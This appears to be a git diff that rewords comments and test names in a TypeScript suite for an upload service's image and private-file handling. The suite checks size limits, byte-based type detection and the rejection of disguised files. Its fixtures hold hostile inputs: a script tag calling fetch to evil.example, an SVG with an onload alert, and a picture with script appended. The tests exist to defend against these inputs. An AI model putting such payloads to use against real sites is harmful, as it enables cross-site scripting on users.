@@ -29,7 +29,7 @@ const LIMIT = 10 * MEGABYTE;
 
 let world: PlatformWorld;
 let wire: Awaited<ReturnType<typeof openWire>>;
-/** Hashes of the files that reached a platform which keeps them as they are. */
+/** Hashes of the files that reached a platform which stores them unchanged. */
 const arrived: string[] = [];
 let recorder: Awaited<ReturnType<typeof openWire>>;
 
@@ -97,7 +97,7 @@ const picture = async (width = 8, height = 8) => {
     .toBuffer();
   return new Uint8Array(made);
 };
-/** A picture with so many bytes behind it that it has this size. */
+/** A picture with so many appended bytes that it has this size. */
 async function sized(size: number): Promise<Uint8Array<ArrayBuffer>> {
   const bytes = new Uint8Array(size);
   for (let at = 0; at < size; at += 7) bytes[at] = at % 251;
@@ -111,7 +111,7 @@ it.each(['\n', '\u2028', '\u0085', '\f'])('keeps a description with %j on one li
   expect(sent).toMatchObject({ ok: true, value: { alt: 'Salle bleue' } });
 });
 
-describe('bytes arrive as they are, or not at all', () => {
+describe('bytes arrive unchanged, or not at all', () => {
   it.each([...[MEGABYTE - 1, MEGABYTE, MEGABYTE + 1], ...[LIMIT - 1, LIMIT]])('%i bytes', async (size) => {
     sendTo(recorder);
     const bytes = await sized(size);
@@ -122,7 +122,7 @@ describe('bytes arrive as they are, or not at all', () => {
     expect(arrived).toEqual([sha(bytes), sha(bytes)]);
   });
 
-  it('one more than the limit is refused, and one that was cut is no file', async () => {
+  it('one more than the limit is refused, and a body that was cut off is no file', async () => {
     sendTo(recorder);
     const large = await sized(LIMIT + 1);
     expect(reasonOf(await receiveImage(session, upload(large)))).toBe('size');
@@ -139,7 +139,7 @@ describe('bytes arrive as they are, or not at all', () => {
 
 const text = (content: string) => new TextEncoder().encode(content);
 const SCRIPT = '<script>fetch("https://evil.example")</script>';
-/** What is no image, whatever its first letters would like to be. */
+/** Files that are no images, whatever their first bytes claim. */
 const HOSTILE: Readonly<Record<string, () => Uint8Array>> = {
   svg: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
   'svg after a prologue': () => text(`<?xml version="1.0"?><!DOCTYPE svg><svg onload="alert(1)"/>`),
@@ -165,7 +165,7 @@ const NAMES = [
   ['.png', ''],
 ] as const;
 
-describe('what a file is, its bytes say', () => {
+describe('the bytes of a file decide what it is', () => {
   it.each(Object.entries(HOSTILE))('%s is refused with a reason under ten names', async (_, content) => {
     const reasons: unknown[] = [];
     for (const [name, type] of NAMES) {
@@ -177,7 +177,7 @@ describe('what a file is, its bytes say', () => {
     expect(kept.body).toEqual([]);
   });
 
-  it('a picture under a wrong name is one, and what hides behind its pixels does not arrive', async () => {
+  it('a picture under a wrong name is accepted, without what is appended to its pixels', async () => {
     const bytes = new Uint8Array(Buffer.concat([await picture(), Buffer.from(SCRIPT)]));
     const sent = await receiveImage(session, upload(bytes, 'page.html', 'text/html'));
     if (!sent.ok) throw new Error('refused');
@@ -201,7 +201,7 @@ describe('a private file', () => {
       params: Promise.resolve({ space: 'm', spaceId: String(session.scope.id), fileId: String(id) }),
     });
 
-  it('comes back byte for byte to who sent it, as a file that nothing opens', async () => {
+  it('comes back byte for byte to its sender, as a download that the browser never displays', async () => {
     const bytes = new Uint8Array(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MEGABYTE, 'x')]));
     const sent = await receivePrivateFile(session, upload(bytes, 'Bail été.pdf', 'application/pdf'));
     if (!sent.ok) throw new Error('refused');
